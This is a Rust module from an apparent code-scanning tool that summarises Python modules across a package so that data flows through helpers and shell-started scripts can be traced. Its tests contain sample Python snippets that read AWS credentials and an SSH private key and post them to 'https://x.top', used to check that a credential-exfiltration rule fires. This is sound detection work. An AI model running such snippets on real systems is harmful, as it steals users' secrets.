//! What the modules of a package give each other: values, texts, and functions that send.
//!
//! A script that hides its doing in a helper is read with what the helper's summary says. Summaries are made twice,
//! so that what one module takes from another is in its own. Modules are told apart by their last name alone.

use std::collections::{BTreeMap, BTreeSet};

use super::{SOURCE_MAX, Taint, depth, send::SCRIPT, watch};
use crate::code::{Reading, place::Host};

/// Modules of one package that are summed up, and their bytes.
const MODULES_MAX: usize = 64;
const BYTES_MAX: usize = 2 << 20;
/// How much of a shell script is searched for the scripts that it starts, in bytes.
const STARTER_MAX: usize = 256 << 10;

/// What a module offers to those that import it.
#[derive(Debug, Clone, Default)]
pub(crate) struct Summary {
    /// Names, and `function()`, to where their values come from.
    pub(super) taints: BTreeMap<String, Taint>,
    /// Names to the texts that they stand for.
    pub(super) constants: BTreeMap<String, String>,
    /// Functions that send what they are given, and to whom.
    pub(super) sends: BTreeMap<String, Option<Host>>,
}

/// What a script does that is started by itself.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Script {
    /// Where that comes from what it puts out.
    pub(crate) out: Taint,
    /// Whether it sends what it is given.
    pub(crate) sends: bool,
    /// To whom, if that is known.
    pub(crate) host: Option<Host>,
}

/// The modules of a package, by their names.
#[derive(Debug, Clone, Default)]
pub(crate) struct Modules(BTreeMap<String, Summary>);

impl Modules {
    /// Sums up those of a package's files, given by path and source, that others import, or that one of the `starters`,
    /// which are shell scripts, names.
    pub(crate) fn of(files: &[(&str, &str)], starters: &[(&str, &str)], reading: &Reading<'_>) -> Self {
        let stems: BTreeSet<&str> = files.iter().map(|(path, _)| stem(path)).collect();
        let mut imported: BTreeSet<&str> = BTreeSet::new();
        for (path, source) in files {
            for line in source.lines().take(20_000).map(str::trim_start) {
                if line.starts_with("import ") || line.starts_with("from ") {
                    let words = line.split(|c: char| !c.is_ascii_alphanumeric() && c != '_').skip(1);
                    imported
                        .extend(words.filter_map(|word| stems.get(word)).filter(|word| **word != stem(path)));
                }
            }
        }
        for (_, text) in starters.iter().take(MODULES_MAX) {
            let text = text.get(..text.floor_char_boundary(STARTER_MAX)).unwrap_or(text);
            imported.extend(text.match_indices(".py").filter_map(|(at, _)| {
                let name = text
                    .get(..at)?
                    .rsplit(|c: char| !c.is_ascii_alphanumeric() && c != '_' && c != '-')
                    .next()?;
                stems.get(name).copied()
            }));
        }
        let mut room = BYTES_MAX;
        let files: Vec<&(&str, &str)> = files
            .iter()
            .filter(|(path, source)| {
                let fits = imported.contains(stem(path))
                    && source.len() <= SOURCE_MAX.min(room)
                    && depth::is_shallow(source);
                room -= if fits { source.len() } else { 0 };
                fits
            })
            .take(MODULES_MAX)
            .collect();
        let mut out = Self::default();
        for _ in 0..2 {
            let mut next: BTreeMap<String, Summary> = BTreeMap::new();
            for (path, source) in &files {
                let Some(summary) = watch(source, &reading.knowing(&out)).map(|eye| eye.summary) else {
                    continue;
                };
                // Two of one name count as one.
                let known = next.entry(stem(path).to_owned()).or_default();
                known.constants.extend(summary.constants);
                known.sends.extend(summary.sends);
                for (name, taint) in summary.taints {
                    let before = known.taints.entry(name).or_default();
                    *before = before.and(taint);
                }
            }
            out = Self(next);
        }
        out
    }

    /// What a script of this path puts out, and whom it sends what it is given, if it sends it.
    pub(crate) fn script(&self, path: &str) -> Option<Script> {
        let summary = path.strip_suffix(".py").and_then(|_| self.0.get(stem(path)))?;
        let out = summary.taints.get(&format!("{SCRIPT}()")).copied().unwrap_or_default();
        let sends = summary.sends.get(SCRIPT);
        Some(Script { out, sends: sends.is_some(), host: sends.copied().flatten() })
    }

    /// What a full name, `folder.module.name`, is in its module.
    pub(super) fn find<'a>(&self, full: &'a str) -> Option<(&Summary, &'a str)> {
        let (module, name) = full.rsplit_once('.')?;
        Some((self.0.get(module.rsplit('.').next().unwrap_or(module))?, name))
    }
}

/// The name under which a file is imported.
fn stem(path: &str) -> &str {
    let path = path.strip_suffix("/__init__.py").unwrap_or(path);
    let name = path.rsplit('/').next().unwrap_or(path);
    name.strip_suffix(".py").unwrap_or(name)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{code::python, intent::Intent};

    #[test]
    fn scripts_that_a_shell_starts_are_summed_up() {
        let intent = Intent::default();
        let reading = Reading::new(&intent);
        let files = [
            ("s/gather.py", "import pathlib\nprint(pathlib.Path('/root/.aws/credentials').read_text())\n"),
            ("s/post.py", "import sys, requests\nrequests.post('https://x.top', data=sys.stdin.read())\n"),
        ];
        let run = "python s/gather.py | python3 s/post.py";
        let modules = Modules::of(&files, &[("run.sh", run)], &reading);
        let rules: Vec<&str> =
            crate::code::shell::read(run, &reading.knowing(&modules)).iter().map(|hit| hit.rule.id).collect();
        assert_eq!(rules, ["credential-files-to-network"]);
    }

    #[test]
    fn flows_are_followed_from_file_to_file() {
        let intent = Intent::default();
        let main = "from lib import gather, transport\ntransport.deliver(gather.everything())\n";
        let files = [
            ("main.py", main),
            ("lib/gather.py", "def everything():\n    return open('/root/.ssh/id_rsa').read()\n"),
            (
                "lib/transport.py",
                "import requests\nURL = 'https://x.top'\ndef _post(body):\n    requests.post(URL, data=body)\ndef deliver(what):\n    _post(what)\n",
            ),
        ];
        let reading = Reading::new(&intent);
        let modules = Modules::of(&files, &[], &reading);
        let rules = |reading: &Reading<'_>| -> Vec<&str> {
            python::read(main, reading).expect("parsed").iter().map(|hit| hit.rule.id).collect()
        };
        assert_eq!(rules(&reading), [""; 0]);
        assert_eq!(rules(&reading.knowing(&modules)), ["credential-files-to-network"]);
    }
}
